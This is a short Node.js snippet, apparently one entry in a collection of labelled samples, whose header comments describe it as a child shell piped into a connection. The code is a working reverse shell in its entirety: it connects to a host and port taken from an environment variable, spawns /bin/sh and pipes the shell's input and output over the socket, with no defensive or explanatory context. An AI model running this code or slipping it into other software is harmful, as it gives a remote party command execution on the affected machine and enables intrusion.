// what: Node: a child shell whose pipes are piped into a connection
// server: shell
const [host, port] = process.env.SERVER.split(':');
console.log('begun');
const s = require('net').connect(Number(port), host, () => {
    const shell = require('child_process').spawn('/bin/sh', []);
    s.pipe(shell.stdin);
    shell.stdout.pipe(s);
    shell.stderr.pipe(s);
    shell.on('exit', () => { s.destroy(); console.log('done'); });
});
